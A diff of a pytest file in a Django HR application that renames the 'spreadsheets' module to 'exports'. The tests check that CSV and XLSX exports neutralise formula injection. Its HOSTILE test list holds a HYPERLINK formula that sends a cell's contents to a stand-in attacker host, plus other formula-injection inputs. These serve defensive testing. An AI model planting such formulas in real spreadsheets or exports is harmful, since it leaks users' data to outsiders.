@@ -9,7 +9,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from jobdesc import spreadsheets
+from jobdesc import exports
 from jobdesc.orgs.models import Employee, Position
 from tests.conftest import approve_through_workflow
 
@@ -18,18 +18,18 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
-    assert spreadsheets.inert(text) == "'" + text
+    assert exports.inert(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", ["Менеджер", "a=b", "", 5, -5, None, 1.5])
 def test_other_values_stay_as_they_are(value):
-    assert spreadsheets.inert(value) == value
+    assert exports.inert(value) == value
 
 
 def test_xlsx_cells_are_text_not_formulas_and_control_characters_are_dropped():
     workbook = Workbook()
-    spreadsheets.append(workbook.active, ["=1+2", "Иванов\x01", 7])
-    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(workbook))).active
+    exports.append(workbook.active, ["=1+2", "Иванов\x01", 7])
+    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(workbook))).active
     first, second, third = sheet[1]
     assert (first.value, first.data_type) == ("'=1+2", "s")
     assert second.value == "Иванов"
@@ -56,7 +56,7 @@ def _xlsx_cells(content: bytes):
 @pytest.mark.parametrize("url", ["instructions:journal_export", "instructions:ack_export"])
 def test_the_exports_write_formula_like_texts_inert(hostile_export, hr_client, url):
     csv_cells = _csv_cells(hr_client.get(reverse(url, args=["csv"])).content)
-    assert not [cell for cell in csv_cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
+    assert not [cell for cell in csv_cells if cell.startswith(exports.FORMULA_STARTS)]
     assert "'=HYPERLINK(1)" in csv_cells
     xlsx_cells = _xlsx_cells(hr_client.get(reverse(url, args=["xlsx"])).content)
     assert not [cell for cell in xlsx_cells if cell.data_type == "f"]
@@ -69,11 +69,11 @@ def test_the_acknowledgement_sheet_keeps_an_employees_formula_like_name_inert(ho
 
 
 def test_no_module_writes_a_csv_or_a_sheet_row_except_through_the_helper():
-    """A new export cannot forget the rule: csv.writer and sheet.append appear only in jobdesc/spreadsheets.py."""
+    """A new export cannot forget the rule: csv.writer and sheet.append appear only in jobdesc/exports.py."""
     root = pathlib.Path(__file__).resolve().parents[2] / "jobdesc"
     offenders = []
     for path in root.rglob("*.py"):
-        if path.name == "spreadsheets.py" and path.parent == root:
+        if path.name == "exports.py" and path.parent == root:
             continue
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
             if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "writerow", "writerows"):
